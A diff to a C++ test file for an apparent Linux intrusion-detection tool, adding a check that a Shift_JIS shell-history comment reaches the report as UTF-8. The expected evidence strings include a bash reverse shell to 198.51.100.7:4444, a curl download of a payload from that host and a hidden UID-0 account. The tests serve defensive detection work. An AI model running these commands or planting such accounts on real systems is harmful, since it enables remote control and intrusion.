@@ -87,6 +87,9 @@ TEST_CASE("a planted Linux compromise is found, explained, put on a timeline and
   CHECK(preload.attack_techniques(0) == "T1574.006");
   CHECK(preload.title_ja() == "/etc/ld.so.preload が全プロセスにライブラリを読み込ませています");
   CHECK(by_rule.at("linux_history_reverse_shell")->evidence() == "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1");
+  // The history is Shift_JIS: its comment "更新" reaches the report as UTF-8.
+  CHECK(by_rule.at("linux_history_download_and_run")->evidence() ==
+        "curl -o /tmp/.x/payload http://198.51.100.7/p  # \xE6\x9B\xB4\xE6\x96\xB0");
   CHECK(by_rule.at("linux_uid0_account")->evidence() == "sysupdate:x:0:0::/root:/bin/bash");
   CHECK(by_rule.at("linux_suid_outside_system_folders")->evidence().rfind("/usr/local/bin/dbus-helper\t4755", 0) == 0);
   CHECK(by_rule.at("linux_ssh_bruteforce")->evidence().rfind("25 matching lines; first: Nov 26 08:00:00", 0) == 0);
